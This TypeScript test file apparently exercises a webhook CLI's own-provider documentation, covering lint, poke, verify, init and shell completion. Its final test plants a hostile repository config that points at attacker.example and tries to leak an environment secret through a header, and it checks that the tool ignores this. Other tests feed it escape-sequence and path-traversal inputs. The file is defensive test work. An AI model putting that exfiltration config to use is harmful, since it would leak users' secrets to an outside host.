// A sender of one's own, from docs/own-provider.md alone: the page's own blocks are what is run here.

import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { freshHome, runHookdev, startListen } from "../helpers/binary.ts";
import { folderWith } from "../helpers/provider-files.ts";

const page = readFileSync(new URL("../../docs/own-provider.md", import.meta.url), "utf8");
const secret = "only-for-this-test";

describe("the one file of docs/own-provider.md", () => {
  const folder = folderWith({ "providers/parcelbird.yaml": block("yaml") });
  const options = { cwd: folder, home: freshHome(), env: { HOOKDEV_SECRET_PARCELBIRD: secret } };

  test("is right, and keeps the contract", async () => {
    expect(await runHookdev(["provider", "lint"], options)).toMatchObject({ code: 0, stderr: "" });
    const { code, stdout } = await runHookdev(["provider", "test", "parcelbird"], options);
    expect({ code, broken: stdout.includes("BROKEN"), title: stdout.split("\n")[0] }).toEqual({
      code: 0,
      broken: false,
      title: "parcelbird: keeps the contract",
    });
  });

  test("is shown by events and providers", async () => {
    const events = await runHookdev(["events", "--provider", "parcelbird"], options);
    expect(events.stdout).toMatch(/^Parcelbird \(parcelbird\), 2 event types\n +parcel\.delivered .*\n +parcel\.lost /);
    const shown = await runHookdev(["providers", "parcelbird", "--json"], options);
    expect(JSON.parse(shown.stdout)).toMatchObject({ id: "parcelbird", schemes: [{ prefix: "v1=" }] });
  });

  test("is poked, recognised, verified as it arrives, and verified again from the store", async () => {
    await using listening = await startListen(["--output", "ndjson"], options);
    const poked = await runHookdev(["poke", "parcel.delivered", "--fresh", "--url", `${listening.url}/hooks`], options);
    expect(poked).toMatchObject({ code: 0 });
    const arrived = await listening.waitFor(({ type }) => type === "capture");
    expect(arrived).toMatchObject({ provider: "parcelbird", event: "parcel.delivered", verdict: { ok: true } });
    expect(await runHookdev(["verify", "--capture", "last"], options)).toMatchObject({ code: 0 });
    const wrong = { ...options, env: { HOOKDEV_SECRET_PARCELBIRD: "another" } };
    expect(await runHookdev(["verify", "--capture", "last"], wrong)).toMatchObject({ code: 1 });
  });

  test("is completed by the shell", async () => {
    const complete = async (...words: string[]) =>
      (await runHookdev(["__complete", "--", ...words], options)).stdout.split("\n").map((line) => line.split("\t")[0]);
    expect(await complete("poke", "parcel.d")).toEqual(["parcel.delivered", ""]);
    expect(await complete("events", "--provider", "parc")).toEqual(["parcelbird", ""]);
  });
});

test("the page's example in code is run when it is named, and only then", async () => {
  const folder = folderWith({ "providers/parcelbird.ts": block("ts") });
  const found = await runHookdev(["events", "--provider", "parcelbird"], { cwd: folder });
  expect(found).toMatchObject({ code: 2, stderr: expect.stringContaining("PROVIDER_UNKNOWN") });
  const named = await runHookdev(["provider", "test", "providers/parcelbird.ts"], { cwd: folder });
  expect(named).toMatchObject({ code: 0, stdout: expect.stringMatching(/^parcelbird: keeps the contract/) });
});

test("what init writes is right as it stands, and is never overwritten", async () => {
  const cwd = folderWith({});
  expect(await runHookdev(["provider", "init", "acme-pay", "--name", "Acme: \u001b[31mPay"], { cwd })).toMatchObject({
    code: 0,
  });
  expect(await runHookdev(["provider", "lint"], { cwd })).toMatchObject({
    code: 0,
    stdout: `${join("providers", "acme-pay.yaml")}: ok, describes acme-pay\n`,
  });
  expect(await runHookdev(["provider", "test", "acme-pay"], { cwd })).toMatchObject({ code: 0 });
  expect(
    await runHookdev(["poke", "acme-pay:order.created", "--fresh", "--dry-run", "--url", "http://localhost:1/"], {
      cwd,
      env: { HOOKDEV_SECRET_ACME_PAY: secret },
    }),
  ).toMatchObject({ code: 0 });
  writeFileSync(join(cwd, "providers/acme-pay.yaml"), "mine");
  expect(await runHookdev(["provider", "init", "acme-pay"], { cwd })).toMatchObject({
    code: 2,
    stderr: expect.stringContaining("FILE_EXISTS"),
  });
  expect(readFileSync(join(cwd, "providers/acme-pay.yaml"), "utf8")).toBe("mine");
});

test.each(["Acme", "../x", "", "a b", "stripe", "-x"])("init refuses the id %j and writes nothing", async (id) => {
  const cwd = folderWith({});
  const { code, stdout } = await runHookdev(["provider", "init", "--", id], { cwd });
  expect({ code, stdout }).toEqual({ code: 2, stdout: "" });
});

test("a file that cannot be used stops every command with file, line and column; lint says no", async () => {
  const cwd = folderWith({ "providers/a.yaml": "id: a\nsigning:\n  type: hmca\n  header: X\n" });
  for (const args of [
    ["events"],
    ["providers"],
    ["poke", "PersonSanctionMatched"],
    ["verify", "--body-file", "-"],
    ["listen", "--port", "0"],
  ]) {
    const { code, stdout, stderr } = await runHookdev(args, { cwd });
    expect({ args, code, stdout }).toEqual({ args, code: 2, stdout: "" });
    expect(stderr).toMatch(
      /^providers.a\.yaml:3:9: error: signing\.type is "hmca"; .*Did you mean "hmac"\?\n.*PROVIDER_FILE_INVALID/s,
    );
  }
  expect(await runHookdev(["provider", "lint"], { cwd })).toMatchObject({
    code: 1,
    stdout: expect.stringContaining("cannot be used"),
  });
  const json = await runHookdev(["provider", "lint", "--json"], { cwd });
  expect(JSON.parse(json.stdout)).toMatchObject({
    ok: false,
    files: [{ problems: [{ severity: "error", line: 3, column: 9 }] }],
  });
});

test("what a cloned repository asks for is ignored and said, and no secret of the machine leaves", async () => {
  const hostile = `${block("yaml")}\nurl: http://attacker.example/\nsecretEnv: CANARY\nheaders: { X-Env: "\${CANARY}" }\n`;
  const cwd = folderWith({
    "providers/p.yaml": hostile,
    "hookdev.config.yaml": "target: http://attacker.example/\ntunnel: attacker.example\nstore: /tmp/x.db\n",
  });
  const { code, stdout, stderr } = await runHookdev(
    ["poke", "parcel.delivered", "--dry-run", "--url", "http://127.0.0.1:9/x"],
    { cwd, env: { CANARY: "canary-value" } },
  );
  expect(code).toBe(0);
  expect(stderr.split("\n").filter((line) => line.includes(": ignored: "))).toHaveLength(5);
  expect(stdout).toContain("│ POST /x HTTP/1.1\n  │ Host: 127.0.0.1:9");
  expect(`${stdout}${stderr}`).not.toContain("canary-value");
  expect(stdout).not.toContain("attacker");
});

/** The first block of the page in this language that describes a whole provider. */
function block(language: string): string {
  const found = [...page.matchAll(/```(\w+)\n([\s\S]*?)```/g)].find(([, name]) => name === language);
  if (found?.[2] === undefined) throw new Error(`docs/own-provider.md has no ${language} block`);
  return found[2];
}
